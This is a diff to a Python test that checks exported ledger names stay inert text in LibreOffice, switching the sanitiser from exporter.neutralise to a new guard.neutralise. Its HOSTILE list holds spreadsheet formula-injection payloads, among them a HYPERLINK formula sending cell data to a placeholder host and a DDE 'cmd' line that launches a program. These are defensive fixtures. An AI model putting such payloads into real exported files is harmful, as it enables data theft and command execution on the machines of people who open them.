@@ -24,6 +24,7 @@ from collab.graph.sqlite_engine import SqliteStore
 from collab.ledgers import exporter
 from collab.ledgers.importer import import_ledger, read_ledger
 from collab.ledgers.kinds import KINDS
+from collab.sheets import guard
 
 HOSTILE = ['=HYPERLINK("http://x/?"&A1)', "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=2+2",
            "\r=3+3", "=cmd|' /C calc'!A0"]
@@ -86,7 +87,7 @@ def test_exported_formulas_stay_text_in_libreoffice(exported: dict[str, Path],
     assert all(name[0] in "=+-@\t\r" for name in stored.values())
     seen = names_column(opened_in_libreoffice(exported[fmt], tmp_path / "lo"))
     for code, name in stored.items():
-        assert seen[code] == exporter.neutralise(name), \
+        assert seen[code] == guard.neutralise(name), \
             (code, name, seen[code])
 
 
